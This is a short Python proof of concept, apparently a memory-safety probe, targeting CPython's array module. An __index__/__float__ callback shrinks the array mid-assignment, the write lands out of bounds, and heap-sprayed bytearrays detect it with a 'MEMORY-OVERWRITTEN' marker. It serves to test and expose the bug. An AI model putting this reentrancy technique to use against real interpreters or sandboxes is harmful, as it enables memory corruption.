# family: wall (memory: array.array stores convert after fixing where they write)   goal: memory
# a[i] = v and fromlist: the index is checked (or the array grown) first, then the
# value's __index__ / __float__ shrinks the array, and the byte lands past it.
import array

found = []


class Shrink:
    def __init__(self, value):
        self.value = value

    def __index__(self):
        del a[1:]
        for _ in range(64):
            found.append(bytearray(7))
        return self.value

    def __float__(self):
        return float(self.__index__())


a = array.array("b", bytes(200))
try:
    a[100] = Shrink(66)
except Exception:
    pass
a = array.array("b", bytes(200))
try:
    a.fromlist([Shrink(67)])
except Exception:
    pass
if any(any(b) for b in found):
    print("MEMORY-" + "OVERWRITTEN")
